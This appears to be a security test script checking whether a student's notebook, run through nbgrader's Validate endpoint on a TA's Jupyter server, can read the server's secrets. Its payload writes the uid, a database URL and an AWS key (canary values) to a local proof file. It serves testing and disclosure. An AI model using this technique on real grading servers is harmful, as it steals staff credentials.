"""a15: a13 through the TA's Jupyter server (started as `make lab` starts it: venv's jupyter server, root dir = the
course, PYTHONSAFEPATH=1 DISTCOURSE_JUDGE=kernel, canaries in its environment): POST /assignments/validate (the
Validate button of nbgrader's lab extension) on mallory's upload in downloaded/ps1_memory/extracted/, and, as a
control, on her collected copy in submitted/."""
import json, os, subprocess, time, urllib.request, sys
sys.path.insert(0, os.path.dirname(__file__))
from harness import *
PROOF = "/tmp/attack39-root-a15-proof.txt"
code = r'''
import os, json
open(PROOF, "a").write(json.dumps({"uid": os.getuid(), "DATABASE_URL": os.environ.get("DATABASE_URL"), "AWS": os.environ.get("AWS_SECRET_ACCESS_KEY")}) + "\n")
'''.replace("PROOF", repr(PROOF))
PORT, TOKEN = 18939, "a15token"
def req(method, path, body=None, timeout=120):
    r = urllib.request.Request(f"http://127.0.0.1:{PORT}{path}", method=method, data=body,
                               headers={"Authorization": f"token {TOKEN}", "Content-Type": "application/json"})
    with urllib.request.urlopen(r, timeout=timeout) as resp: return resp.status, resp.read()
if os.path.exists(PROOF): os.unlink(PROOF)
d = make_course("a15"); nb = probe_nb(code)
ext = f"{d}/downloaded/ps1_memory/extracted"; os.makedirs(ext)
up = "ps1_memory_mallory_attempt_2024-01-30-15-01-00_ps1_memory.ipynb"
nbformat.write(nb, f"{ext}/{up}"); put(d, "mallory", nb)
env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123", PYTHONSAFEPATH="1", DISTCOURSE_JUDGE="kernel")
log = open("/tmp/attack39-root-a15.server.log", "w")
srv = subprocess.Popen([f"{CLONE}/.venv/bin/jupyter", "server", "--no-browser", f"--port={PORT}", "--ip=127.0.0.1",
                        f"--ServerApp.token={TOKEN}", "--allow-root", f"--ServerApp.root_dir={d}"], cwd=d, env=env, stdout=log, stderr=subprocess.STDOUT)
try:
    for _ in range(60):
        try: req("GET", "/api/status", timeout=2); break
        except Exception: time.sleep(1)
    for path in (f"downloaded/ps1_memory/extracted/{up}", "submitted/mallory/ps1_memory/ps1_memory.ipynb"):
        if os.path.exists(PROOF): os.unlink(PROOF)
        try: st, body = req("POST", "/assignments/validate", json.dumps({"path": path}).encode(), timeout=300)
        except Exception as e: st, body = repr(e), b""
        print(f"POST /assignments/validate {path} -> {st}:", body[:160])
        print("   proof:", open(PROOF).read().strip() if os.path.exists(PROOF) else "none")
finally:
    srv.terminate(); srv.wait(20)
if os.path.exists(PROOF): os.unlink(PROOF)
